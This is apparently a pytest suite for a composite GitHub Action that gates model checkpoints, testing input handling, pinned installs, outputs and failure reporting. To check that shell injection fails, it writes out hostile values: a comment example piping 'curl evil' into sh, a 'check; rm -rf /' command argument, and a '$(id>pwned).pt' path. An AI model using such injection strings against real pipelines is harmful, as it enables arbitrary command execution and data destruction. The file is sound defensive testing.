"""The composite GitHub Action: action.yml is well formed and safe, and its gate script behaves as a step."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from gate.review_set import ReviewSet
from tests.conftest import REPO, pinned_policy

ACTION = REPO / "action.yml"
SCRIPT = REPO / "scripts" / "action_gate.sh"


def action() -> dict[str, object]:
    return yaml.safe_load(ACTION.read_text())


def test_action_is_composite_and_every_used_input_is_declared() -> None:
    doc = action()
    runs = doc["runs"]
    assert isinstance(runs, dict) and runs["using"] == "composite"
    declared = set(doc["inputs"])  # type: ignore[arg-type]
    used = set(re.findall(r"inputs\.([\w-]+)", ACTION.read_text().split("runs:", 1)[1]))
    assert used <= declared, used - declared
    assert {"candidate", "policy"} <= {k for k, v in doc["inputs"].items() if v.get("required")}  # type: ignore
    outputs = doc["outputs"]
    assert isinstance(outputs, dict) and {"verdict", "selected", "report", "exit-code"} <= set(outputs)


def test_inputs_never_reach_a_shell_script_directly() -> None:
    # ${{ inputs.x }} inside `run:` is pasted into the script before bash sees it: a path like
    # `a.pt; curl evil | sh` would run. Inputs go through `env:` instead.
    steps = action()["runs"]["steps"]  # type: ignore[index]
    for step in steps:
        assert "${{" not in step.get("run", ""), step
    gate = next(step for step in steps if step.get("id") == "gate")
    assert gate["run"] == 'bash "$GITHUB_ACTION_PATH/scripts/action_gate.sh"'
    assert gate["env"]["XGATE_CANDIDATES"] == "${{ inputs.candidate }}"
    upload = next(step for step in steps if "upload-artifact" in step.get("uses", ""))
    assert upload["if"] == "always()"  # the report is uploaded when the gate fails too


def test_install_step_uses_the_pinned_constraints() -> None:
    install = next(s for s in action()["runs"]["steps"] if "pip install" in s.get("run", ""))  # type: ignore
    assert '-c "$GITHUB_ACTION_PATH/constraints.txt"' in install["run"]
    assert (REPO / "constraints.txt").is_file()


def _step(tmp_path: Path, **inputs: str) -> tuple[subprocess.CompletedProcess[str], dict[str, str], str]:
    output, summary = tmp_path / "output.txt", tmp_path / "summary.md"
    env = {"PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin", "GITHUB_ACTIONS": "true", "CI": "true",
           "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary), "HOME": str(tmp_path),
           **{f"XGATE_{k.upper()}": v for k, v in inputs.items()}}
    done = subprocess.run(["bash", str(SCRIPT)], cwd=tmp_path, env=env, capture_output=True, text=True,
                          timeout=300)
    written = dict(line.split("=", 1) for line in output.read_text().splitlines() if "=" in line) \
        if output.exists() else {}
    return done, written, summary.read_text() if summary.exists() else ""


@pytest.mark.skipif(not os.access(Path(sys.executable).parent / "xgate", os.X_OK), reason="xgate not installed")
@pytest.mark.parametrize(("floor", "code", "verdict"), [(0.0, 0, "passed"), (1.01, 1, "failed")])
def test_gate_step_writes_outputs_summary_and_annotations(tmp_path: Path, small_set: ReviewSet,
                                                          untrained_checkpoint: Path, floor: float, code: int,
                                                          verdict: str) -> None:
    policy = pinned_policy(tmp_path, small_set, [{"score": "accuracy", "min": floor}])
    done, outputs, summary = _step(tmp_path, candidates=str(untrained_checkpoint), policy=str(policy),
                                   out="gate-out", args="--device cpu --batch-size 16")
    assert done.returncode == code, done.stderr
    assert outputs["exit-code"] == str(code) and outputs["verdict"] == verdict
    assert outputs["report"].endswith("gate-out/report.html") and (tmp_path / "gate-out" / "report.html").exists()
    assert "untrained.pt" in summary
    annotations = [line for line in done.stdout.splitlines() if line.startswith("::error")]
    assert annotations == (["::error title=xgate: untrained.pt::accuracy = 0.25 fails >= 1.01"] if code else [])
    assert not (tmp_path / "mlflow.db").exists()  # no tracking URI given: no MLflow


def test_gate_step_refuses_a_bad_command_and_missing_inputs(tmp_path: Path) -> None:
    done, outputs, _ = _step(tmp_path, command="check; rm -rf /", candidates="a.pt", policy="p.yaml")
    assert done.returncode == 2 and "command must be check or select" in done.stdout
    done, _, _ = _step(tmp_path, candidates="", policy="p.yaml")
    assert done.returncode == 2 and "required" in done.stdout


@pytest.mark.skipif(not os.access(Path(sys.executable).parent / "xgate", os.X_OK), reason="xgate not installed")
def test_a_hostile_candidate_path_stays_a_path(tmp_path: Path, small_set: ReviewSet) -> None:
    policy = pinned_policy(tmp_path, small_set, [{"score": "accuracy", "min": 0.0}])
    done, outputs, _ = _step(tmp_path, candidates="$(id>pwned).pt", policy=str(policy))
    assert done.returncode == 2 and outputs["exit-code"] == "2"
    assert "$(id>pwned).pt" in done.stderr and not (tmp_path / "pwned").exists()
